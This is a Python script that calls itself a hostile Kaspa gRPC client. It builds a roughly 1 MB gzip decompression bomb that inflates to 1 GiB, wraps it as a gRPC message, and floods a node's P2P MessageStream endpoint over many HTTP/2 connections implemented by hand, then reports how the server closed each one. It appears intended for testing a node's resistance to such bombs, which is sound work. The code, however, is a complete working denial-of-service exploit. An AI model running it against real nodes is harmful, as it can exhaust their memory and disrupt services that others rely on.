#!/usr/bin/env python3
"""Hostile Kaspa gRPC client: opens CONNS HTTP/2 connections at once, each sends the
MessageStream request and then one gzip-compressed gRPC message of about 1 MB that inflates
to 1 GiB: a valid KaspadMessage whose only field is an unknown one (number 1000) full of
zeros. Then it waits for the server to end the connection (GOAWAY, RST_STREAM or EOF).

usage: h2_gzip_bomb.py HOST PORT CONNS CACHE_FILE
The compressed bomb is built once (a few seconds) and kept in CACHE_FILE. Prints one JSON
line: how many connections were refused by the server and how, and how long it took.

HTTP/2 is spoken by hand (RFC 9113): frames, flow control for DATA, HPACK literals without
indexing (RFC 7541 6.2.2), enough for one request; nothing the server sends is decoded beyond
the frame header.
"""
import json
import os
import socket
import struct
import sys
import threading
import time
import zlib

GIB = 1 << 30
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def build_bomb(path):
    if os.path.exists(path):
        with open(path, "rb") as f:
            return f.read()
    # KaspadMessage { field 1000 (bytes) = zeros } of exactly 1 GiB
    key = varint(1000 << 3 | 2)
    n = GIB - len(key) - 5
    head = key + varint(n)
    assert len(head) + n == GIB
    c = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip wrapper, as grpc-encoding gzip
    parts = [c.compress(head)]
    zeros = bytes(1 << 20)
    left = n
    while left:
        k = min(left, len(zeros))
        parts.append(c.compress(zeros[:k]))
        left -= k
    parts.append(c.flush())
    body = b"".join(parts)
    msg = b"\x01" + struct.pack(">I", len(body)) + body  # gRPC: compressed flag, length
    with open(path + ".tmp", "wb") as f:
        f.write(msg)
    os.replace(path + ".tmp", path)
    return msg


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def literal(name, value):
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = b"".join(literal(k, v) for k, v in [
    (":method", "POST"), (":scheme", "http"), (":path", "/protowire.P2P/MessageStream"),
    (":authority", "kaspa"), ("content-type", "application/grpc"), ("te", "trailers"),
    ("grpc-encoding", "gzip"), ("grpc-accept-encoding", "gzip"),
])


class Conn:
    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), timeout=15)
        self.buf = b""
        self.conn_win = self.stream_win = 65535
        self.peer_initial = 65535
        self.max_frame = 16384
        self.ended = None  # "goaway", "rst" or "eof"

    def read_frame(self):
        while len(self.buf) < 9 or len(self.buf) < 9 + int.from_bytes(self.buf[:3], "big"):
            try:
                chunk = self.s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                chunk = b""
            if not chunk:
                self.ended = self.ended or "eof"
                return None
            self.buf += chunk
        n = int.from_bytes(self.buf[:3], "big")
        ftype, flags = self.buf[3], self.buf[4]
        sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
        payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
        if ftype == SETTINGS and not flags & 1:
            for i in range(0, len(payload), 6):
                ident, val = struct.unpack(">HI", payload[i:i + 6])
                if ident == 4:  # INITIAL_WINDOW_SIZE
                    self.stream_win += val - self.peer_initial
                    self.peer_initial = val
                elif ident == 5:
                    self.max_frame = val
            self.s.sendall(frame(SETTINGS, 1, 0))
        elif ftype == WINDOW_UPDATE:
            inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if sid == 0:
                self.conn_win += inc
            else:
                self.stream_win += inc
        elif ftype == PING and not flags & 1:
            self.s.sendall(frame(PING, 1, 0, payload))
        elif ftype == GOAWAY:
            self.ended = self.ended or "goaway"
        elif ftype == RST_STREAM:
            self.ended = self.ended or "rst"
        return ftype

    def attack(self, msg):
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, REQUEST))
        off = 0
        while off < len(msg) and not self.ended:
            room = min(self.conn_win, self.stream_win, self.max_frame, len(msg) - off)
            if room <= 0:
                if self.read_frame() is None:
                    break
                continue
            try:
                self.s.sendall(frame(DATA, 0, 1, msg[off:off + room]))
            except OSError:
                self.ended = self.ended or "eof"
                break
            off += room
            self.conn_win -= room
            self.stream_win -= room
        self.sent = off
        while not self.ended:  # until the server ends it
            if self.read_frame() is None:
                break
        self.s.close()


def main():
    host, port, conns, cache = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    msg = build_bomb(cache)
    t0 = time.monotonic()
    cs = [Conn(host, port) for _ in range(conns)]
    ts = [threading.Thread(target=c.attack, args=(msg,)) for c in cs]
    for t in ts:
        t.start()
    for t in ts:
        t.join(30)
    ends = [c.ended for c in cs]
    print(json.dumps({"event": "gzip_bomb", "conns": conns, "bomb_bytes": len(msg),
                      "inflates_to": GIB, "sent_all": sum(c.sent == len(msg) for c in cs),
                      "goaway": ends.count("goaway"), "rst": ends.count("rst"),
                      "eof": ends.count("eof"), "open": ends.count(None),
                      "secs": round(time.monotonic() - t0, 2)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
